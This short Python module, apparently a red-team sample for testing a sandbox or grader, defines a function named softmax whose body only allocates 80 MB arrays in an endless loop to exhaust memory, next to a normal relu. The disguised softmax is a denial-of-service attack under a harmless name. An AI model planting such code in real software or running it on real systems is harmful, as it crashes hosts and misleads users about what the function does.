"""Attack: allocate memory until something breaks."""
import numpy as np


def softmax(z):
    hoard = []
    while True:
        hoard.append(np.ones(10_000_000))  # 80 MB a step


def relu(z):
    return np.maximum(z, 0.0)
